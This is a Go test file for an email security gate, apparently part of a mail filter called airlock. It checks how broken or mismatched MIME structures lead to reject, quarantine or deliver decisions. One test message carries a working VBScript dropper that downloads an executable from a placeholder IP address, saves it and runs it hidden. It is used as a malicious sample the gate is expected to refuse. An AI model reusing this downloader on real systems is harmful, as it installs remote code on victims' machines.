package gate_test

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"

	"github.com/airlockmail/airlock/gate"
	"github.com/airlockmail/airlock/gate/gatetest"
	"github.com/airlockmail/airlock/holdqueue"
	"github.com/airlockmail/airlock/verdict"
)

// TestWalkProblems: how the walk's structural problems decide a message.
// A problem that may hide a file (no reading of the MIME structure can be
// settled) makes the message unscannable, never "0 files, clean"; cosmetic
// problems that hide nothing (a missing final boundary after a whole last
// part, an unknown charset in a text part) do not, because legitimate mail
// has them. And the files of every reading are judged: the report's
// broken-header message with a .vbs and a zip is refused.
func TestWalkProblems(t *testing.T) {
	e := gatetest.Start(t, gatetest.Options{})
	hdr := "From: <alice@example.net>\r\nTo: <bob@example.org>\r\nSubject: %s\r\n"
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	part := func(name, ctype string, data []byte) string {
		return "Content-Type: " + ctype + "; name=\"" + name + "\"\r\nContent-Disposition: attachment; filename=\"" + name +
			"\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(data) + "\r\n"
	}
	vbs := []byte("Set sh = CreateObject(\"WScript.Shell\")\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\n" +
		"x.Open \"GET\", \"http://192.0.2.10/update.exe\", False\r\nx.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\n" +
		"s.Type = 1 : s.Open : s.Write x.ResponseBody\r\ns.SaveToFile \"C:\\Users\\Public\\u.exe\", 2\r\nsh.Run \"C:\\Users\\Public\\u.exe\", 0\r\n")
	zip := gatetest.Zip(gatetest.Part{Name: "eicar.com", Data: gatetest.EICAR})
	msg := func(subject, rest string) []byte {
		return []byte(strings.Replace(hdr, "%s", subject, 1) + rest)
	}
	tests := []struct {
		name   string
		msg    []byte
		action gate.Action
		worst  verdict.Verdict
	}{
		{"broken header line before the MIME fields (the report)", msg("x",
			"this line has no colon\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"+
				"--b\r\n"+part("invoice.vbs", "application/octet-stream", vbs)+"--b\r\n"+part("invoice.zip", "application/zip", zip)+"--b--\r\n"),
			gate.Reject, verdict.Malicious},
		{"declared boundary never used, parts under another: unscannable", msg("mismatch",
			"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"decoy\"\r\n\r\n--real\r\n"+part("logo.png", "image/png", gatetest.PNG)+"--real--\r\n"),
			gate.Quarantine, verdict.Unscannable},
		{"missing final boundary after a whole part: cosmetic", msg("no close",
			"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\n"+part("logo.png", "image/png", gatetest.PNG)),
			gate.Deliver, verdict.Unknown},
		{"unknown charset in a text part: cosmetic", msg("charset",
			"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n\r\nhello\r\n"),
			gate.Deliver, verdict.Unknown},
		{"boundary declared, body only text: cosmetic", msg("text only",
			"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\njust some text\r\n"),
			gate.Deliver, verdict.Unknown},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d := mustDecide(t, e, external(), tc.msg)
			if d.Action != tc.action || d.Worst != tc.worst {
				t.Fatalf("got %s worst=%s (%s), want %s worst=%s; files %+v", d.Action, d.Worst, d.Reason, tc.action, tc.worst, d.Files)
			}
			if d.Action == gate.Quarantine {
				e.WaitState(d.QueueID, holdqueue.Quarantined, 5*time.Second)
			}
		})
	}
}
